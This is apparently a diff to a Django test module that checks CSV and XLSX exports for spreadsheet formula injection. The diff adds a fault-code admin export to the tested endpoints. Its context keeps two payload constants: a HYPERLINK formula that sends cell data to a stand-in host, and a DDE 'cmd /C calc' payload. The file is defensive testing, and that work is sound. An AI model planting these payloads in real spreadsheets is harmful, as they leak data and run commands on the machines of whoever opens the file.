@@ -27,6 +27,7 @@ from tests.parts.factories import PartFactory, SupplierFactory, WarehouseFactory
 from tests.reports.factories import local, survey
 from tests.tickets.factories import TicketFactory
 from tickets.models import FaultCode
+from tickets.resources import FaultCodeResource
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"点击")'
 AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -43,6 +44,7 @@ class Export:
     kwargs: dict[str, str] = field(default_factory=dict)  # "warehouse" → the poisoned world's warehouse
     query: dict[str, str] = field(default_factory=dict)
     admin_form: bool = False  # django-import-export's admin: POST the format and the columns
+    resource: type = PartResource  # the admin form's resource (its columns are posted)
     other_formats: tuple[str, ...] = ()  # what the URL also serves that is no spreadsheet
 
 
@@ -56,6 +58,7 @@ EXPORTS: dict[str, Export] = {
     ),
     "reports:ticket_export": Export(("csv", "xlsx")),
     "admin:parts_part_export": Export(("csv", "xlsx"), admin_form=True),
+    "admin:tickets_faultcode_export": Export(("csv", "xlsx"), admin_form=True, resource=FaultCodeResource),
 }
 
 
@@ -113,7 +116,7 @@ def poisoned(db):
 def download(client, world, name: str, export: Export, fmt: str) -> bytes:
     if export.admin_form:
         resource = SelectableFieldsExportForm.create_boolean_field_name
-        columns = {resource(PartResource, column): "on" for column in PartResource().get_export_order()}
+        columns = {resource(export.resource, column): "on" for column in export.resource().get_export_order()}
         response = client.post(
             reverse(name), {"format": ["csv", "xlsx"].index(fmt), "resource": 0, **columns}
         )
